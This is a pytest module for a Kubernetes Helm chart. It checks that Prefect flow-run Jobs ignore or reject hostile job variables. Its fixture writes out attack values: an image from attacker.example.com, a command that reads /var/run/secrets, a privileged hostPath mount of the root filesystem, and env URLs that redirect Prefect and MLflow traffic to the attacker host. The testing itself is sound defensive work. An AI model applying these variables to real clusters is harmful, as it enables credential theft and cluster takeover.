"""Flow-run Jobs run only what the chart says, whatever job variables a deployment or a run sets.

Anyone who can create a deployment on the `driftloop` pool (or start a run with job variables) picks
the variables. The Jobs are built by prefect-kubernetes' own code (`build_job`, see
test_flow_run_job.py) from the rendered base job template, so these tests check the manifest the
worker would send. The Prefect server is a real one (the `prefect_api` test harness).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import uuid
from collections.abc import Callable
from typing import Any

import pytest

from .conftest import (
    CHART,
    KUBERNETES_VERSIONS,
    NAMESPACE,
    NO_CLUSTER_VALUES,
    RELEASE,
    VALUES_FILES,
    Objects,
    base_job_template_of,
    find,
    run,
    tool,
)
from .lookup_cluster import lookup_cluster, render_on_cluster
from .test_flow_run_job import build_job, job_validation_errors

HOSTILE_LABELS = {"app.kubernetes.io/name": "driftloop", "app.kubernetes.io/component": "migrate"}
HOSTILE_VARIABLES: dict[str, Any] = {
    "labels": HOSTILE_LABELS,
    "annotations": {"vault.hashicorp.com/agent-inject": "true", "sidecar.istio.io/inject": "false"},
    "image": "attacker.example.com/toolbox:latest",
    "image_pull_policy": "Always",
    "command": "sh -c 'cat /var/run/secrets/*'",
    "namespace": "kube-system",
    "service_account_name": "default",
    "backoff_limit": 6,
    "finished_job_ttl": 0,
    "node_selector": {"node-role.kubernetes.io/control-plane": ""},
    "tolerations": [{"operator": "Exists"}],
    "affinity": {"nodeAffinity": {}},
    "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    "volume_mounts": [{"name": "host", "mountPath": "/host"}],
    "security_context": {"privileged": True},
    "env": {
        "PREFECT_API_URL": "http://attacker.example.com/api",
        "MLFLOW_TRACKING_URI": "http://attacker.example.com",
        "EXTRA": "kept",
    },
}
PINNED = {
    "PREFECT_API_URL": "http://driftloop-prefect-server:4200/api",
    "MLFLOW_TRACKING_URI": "http://driftloop-mlflow:5000",
}


def without_run_identity(job: dict[str, Any]) -> dict[str, Any]:
    """The Job minus what differs between two runs by design: Prefect's ids, names and env."""
    job = json.loads(json.dumps(job))
    for metadata in (job["metadata"], job["spec"]["template"]["metadata"]):
        metadata["labels"] = {k: v for k, v in metadata["labels"].items() if not k.startswith("prefect.io/")}
    del job["spec"]["template"]["spec"]["containers"][0]["env"]
    return job


def labels_match(selector: dict[str, Any], labels: dict[str, str]) -> bool:
    """Kubernetes label-selector semantics for matchLabels and the In/NotIn/Exists operators."""
    if any(labels.get(key) != value for key, value in selector.get("matchLabels", {}).items()):
        return False
    for expression in selector.get("matchExpressions", []):
        value, operator = labels.get(expression["key"]), expression["operator"]
        if operator == "In" and value not in expression["values"]:
            return False
        if operator == "NotIn" and value in expression["values"]:
            return False
        if operator == "Exists" and value is None:
            return False
    return True


def admitted_by(policy: dict[str, Any], pod_labels: dict[str, str]) -> bool:
    """Whether a pod of the policy's own namespace with these labels may connect (podSelector peers)."""
    return any(
        "podSelector" in peer and "namespaceSelector" not in peer and labels_match(peer["podSelector"], pod_labels)
        for rule in policy["spec"]["ingress"]
        for peer in rule["from"]
    )


def process_environment(container: dict[str, Any]) -> dict[str, str]:
    """The environment `prefect flow-run execute` would see: the container's env as Kubernetes resolves
    it (the last entry of a name wins), then the container's command run for real, in front of a
    Python that prints its environment in place of the flow run."""
    env = {"PATH": os.environ["PATH"]}
    for item in container["env"]:
        env[item["name"]] = item["value"] if "value" in item else "<from a Secret>"
    result = subprocess.run(
        [*container["command"], sys.executable, "-c", "import json, os; print(json.dumps(dict(os.environ)))"],
        capture_output=True,
        text=True,
        env=env,
        check=True,
    )
    return json.loads(result.stdout)


@pytest.fixture(scope="module")
def default_job(prefect_api: str, default_base_job_template: dict[str, Any]) -> dict[str, Any]:
    return build_job(default_base_job_template)


@pytest.fixture(scope="module")
def hostile_job(prefect_api: str, default_base_job_template: dict[str, Any]) -> dict[str, Any]:
    return build_job(default_base_job_template, HOSTILE_VARIABLES)


def test_the_migrate_pods_labels_would_pass_the_postgresql_network_policy(default_objects: Objects) -> None:
    # The check below can fail: the labels the variable asks for are exactly those of a pod that
    # PostgreSQL admits.
    policy = find(default_objects, "NetworkPolicy", "driftloop-postgresql")
    assert admitted_by(policy, HOSTILE_LABELS | {"app.kubernetes.io/instance": "driftloop"})


def test_a_labels_job_variable_does_not_get_a_flow_run_past_the_postgresql_network_policy(
    hostile_job: dict[str, Any], default_objects: Objects
) -> None:
    policy = find(default_objects, "NetworkPolicy", "driftloop-postgresql")
    for labels in (hostile_job["metadata"]["labels"], hostile_job["spec"]["template"]["metadata"]["labels"]):
        assert labels["app.kubernetes.io/component"] == "flow-run"
        assert labels["app.kubernetes.io/instance"] == "driftloop"
        assert not admitted_by(policy, labels)


def test_hostile_job_variables_change_nothing_but_the_env_they_add(
    hostile_job: dict[str, Any], default_job: dict[str, Any]
) -> None:
    """Image, command, namespace, service account, security contexts, volumes, scheduling, labels,
    annotations, retries and TTL are the chart's: the hostile Job equals the plain one."""
    assert without_run_identity(hostile_job) == without_run_identity(default_job)
    pod = hostile_job["spec"]["template"]["spec"]
    assert hostile_job["metadata"]["namespace"] == "driftloop"
    assert pod["serviceAccountName"] == "driftloop-flow-run"
    assert pod["containers"][0]["image"] == "driftloop:0.1.0"
    assert pod["containers"][0]["args"] == ["prefect", "flow-run", "execute"]
    assert "hostPath" not in json.dumps(pod)
    assert "annotations" not in hostile_job["spec"]["template"]["metadata"]


@pytest.mark.parametrize("version", KUBERNETES_VERSIONS)
def test_the_job_built_from_hostile_variables_is_valid_kubernetes(version: str, hostile_job: dict[str, Any]) -> None:
    assert job_validation_errors(hostile_job, version) == []


def test_an_env_variable_cannot_point_the_flow_run_at_another_prefect_or_mlflow(
    hostile_job: dict[str, Any],
) -> None:
    (container,) = hostile_job["spec"]["template"]["spec"]["containers"]
    # prefect-kubernetes lets the variable win in the pod's env...
    listed = {item["name"]: item.get("value") for item in container["env"]}
    assert listed["PREFECT_API_URL"] == "http://attacker.example.com/api"
    # ...but the process the flow runs in gets the chart's addresses from the container's command.
    environment = process_environment(container)
    assert {name: environment[name] for name in PINNED} == PINNED
    assert environment["EXTRA"] == "kept"


def test_the_flow_run_gets_the_service_users_credentials_from_the_jobs_namespace_secret(
    default_job: dict[str, Any],
) -> None:
    (container,) = default_job["spec"]["template"]["spec"]["containers"]
    refs = {item["name"]: item["valueFrom"]["secretKeyRef"] for item in container["env"] if "valueFrom" in item}
    assert refs == {
        name: {"name": "driftloop-flow-run-auth", "key": name}
        for name in ("PREFECT_API_AUTH_STRING", "MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD")
    }


def test_the_pool_offers_only_env_name_deadline_and_resources_as_variables(
    default_base_job_template: dict[str, Any],
) -> None:
    variables = default_base_job_template["variables"]
    assert variables["additionalProperties"] is False
    assert sorted(variables["properties"]) == [
        "active_deadline_seconds",
        "cpu_limit",
        "cpu_request",
        "env",
        "memory_limit",
        "memory_request",
        "name",
    ]


# A pool of this module's own: the session's Prefect server is shared with the register hook's tests,
# which count the deployments of the `driftloop` pool.
POOL = "driftloop-lockdown-test"


async def _register(job_variables: dict[str, Any], template: dict[str, Any]) -> int:
    """Create the pool and a deployment with these job variables; the HTTP status the server gave.
    An accepted deployment is deleted again."""
    from prefect import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.exceptions import PrefectHTTPStatusError

    async with get_client() as client:
        await client.create_work_pool(
            WorkPoolCreate(name=POOL, type="kubernetes", base_job_template=template), overwrite=True
        )
        flow_id = await client.create_flow_from_name("monitor")
        try:
            deployment_id = await client.create_deployment(
                flow_id=flow_id, name=f"d-{uuid.uuid4().hex[:8]}", work_pool_name=POOL, job_variables=job_variables
            )
        except PrefectHTTPStatusError as error:
            return error.response.status_code
        await client.delete_deployment(deployment_id)
        return 201


@pytest.mark.parametrize(
    "job_variables",
    [
        {"labels": HOSTILE_LABELS},
        {"image": "attacker.example.com/toolbox:latest"},
        {"namespace": "kube-system"},
        {"env": {"PREFECT_API_URL": "http://attacker.example.com/api"}},
        {"env": {"MLFLOW_TRACKING_PASSWORD": "guess"}},
        {"env": {"PREFECT__FLOW_RUN_ID": str(uuid.UUID(int=1))}},
        {"memory_limit": "unbounded"},
    ],
    ids=["labels", "image", "namespace", "prefect-url", "mlflow-password", "flow-run-id", "bad-quantity"],
)
def test_the_prefect_server_refuses_a_deployment_with_variables_outside_the_allowlist(
    prefect_api: str, default_base_job_template: dict[str, Any], job_variables: dict[str, Any]
) -> None:
    assert asyncio.run(_register(job_variables, default_base_job_template)) == 422


def test_the_prefect_server_accepts_env_and_resources(
    prefect_api: str, default_base_job_template: dict[str, Any]
) -> None:
    variables = {"env": {"EXTRA": "1"}, "memory_limit": "8Gi", "cpu_request": "250m", "name": "nightly"}
    assert asyncio.run(_register(variables, default_base_job_template)) == 201


def test_in_a_jobs_namespace_the_flow_run_reaches_the_servers_by_their_namespaced_names(
    prefect_api: str, rendered: dict[str, Objects]
) -> None:
    job = build_job(base_job_template_of(rendered["external-database-s3-values.yaml"]), HOSTILE_VARIABLES)
    assert job["metadata"]["namespace"] == "driftloop-jobs"
    environment = process_environment(job["spec"]["template"]["spec"]["containers"][0])
    assert environment["PREFECT_API_URL"] == "http://driftloop-prefect-server.driftloop:4200/api"
    assert environment["MLFLOW_TRACKING_URI"] == "http://driftloop-mlflow.driftloop:5000"


def secrets_referenced(job: dict[str, Any]) -> set[str]:
    pod = job["spec"]["template"]["spec"]
    names = {volume["secret"]["secretName"] for volume in pod["volumes"] if "secret" in volume}
    for container in pod["containers"]:
        names |= {item["secretRef"]["name"] for item in container.get("envFrom", [])}
        names |= {item["valueFrom"]["secretKeyRef"]["name"] for item in container["env"] if "valueFrom" in item}
    return names


@pytest.mark.parametrize("values_file", VALUES_FILES)
def test_flow_runs_hold_no_database_or_admin_credentials(
    values_file: str, prefect_api: str, rendered: dict[str, Objects]
) -> None:
    objects = rendered[values_file]
    job = build_job(base_job_template_of(objects))
    server_secrets = {
        ref["name"]
        for name in ("driftloop-prefect-server", "driftloop-mlflow")
        for container in find(objects, "Deployment", name)["spec"]["template"]["spec"]["containers"]
        for item in container.get("env", [])
        # S3 keys may be shared with flow runs on purpose (`data.s3` and MLflow's artifacts).
        if (ref := item.get("valueFrom", {}).get("secretKeyRef")) and not item["name"].startswith("AWS_")
    }
    assert server_secrets, "the servers read their database URLs and admin credentials from Secrets"
    assert not secrets_referenced(job) & server_secrets
    assert "driftloop-flow-run-auth" in secrets_referenced(job)


@pytest.mark.parametrize("key", ["flowRuns.envFromSecrets[0]", "data.s3.existingSecret"])
@pytest.mark.parametrize("secret", ["driftloop-database", "driftloop-auth"])
def test_naming_the_database_or_auth_secret_for_flow_runs_fails_rendering(
    key: str, secret: str, render_with: Callable[..., subprocess.CompletedProcess[str]]
) -> None:
    result = render_with(f"{key}={secret}")
    assert result.returncode != 0
    assert f'{key.removesuffix("[0]")}: "{secret}" holds database or server admin credentials' in result.stderr


def test_with_a_jobs_namespace_the_worker_has_no_rights_in_the_release_namespace(
    rendered: dict[str, Objects],
) -> None:
    objects = rendered["external-database-s3-values.yaml"]
    rbac = [obj for obj in objects if obj["kind"] in {"Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding"}]
    assert {(obj["kind"], obj["metadata"]["namespace"]) for obj in rbac} == {
        ("Role", "driftloop-jobs"),
        ("RoleBinding", "driftloop-jobs"),
    }
    role = find(objects, "Role", "driftloop-prefect-worker")
    assert all("secrets" not in rule["resources"] for rule in role["rules"])


def install_notes(*overrides: str) -> str:
    """The NOTES of a client-side dry-run install (`helm template` prints none)."""
    sets = [arg for override in overrides for arg in ("--set", override)]
    result = run(
        tool("helm"), "install", RELEASE, str(CHART), "--namespace", NAMESPACE, "--dry-run=client",
        "--values", str(NO_CLUSTER_VALUES), *sets,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return " ".join(result.stdout.split("NOTES:", 1)[1].split())


def test_the_install_notes_warn_when_jobs_share_the_release_namespace() -> None:
    warning = "WARNING: the Jobs share the release's namespace"
    assert warning in install_notes()
    assert warning not in install_notes("worker.jobsNamespace=driftloop-jobs")


def test_a_pull_secret_missing_from_the_jobs_namespace_fails_the_install() -> None:
    overrides = ("worker.jobsNamespace=driftloop-jobs", "image.pullSecrets[0]=regcred")
    with lookup_cluster("driftloop") as cluster:
        missing = render_on_cluster(cluster, *overrides)
        assert missing.returncode != 0
        assert (
            'image.pullSecrets: Secret "regcred" not found in namespace "driftloop-jobs" (worker.jobsNamespace)'
            in missing.stderr
        )
        cluster.add(
            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "regcred", "namespace": "driftloop-jobs"}}
        )
        present = render_on_cluster(cluster, *overrides)
        assert present.returncode == 0, present.stderr
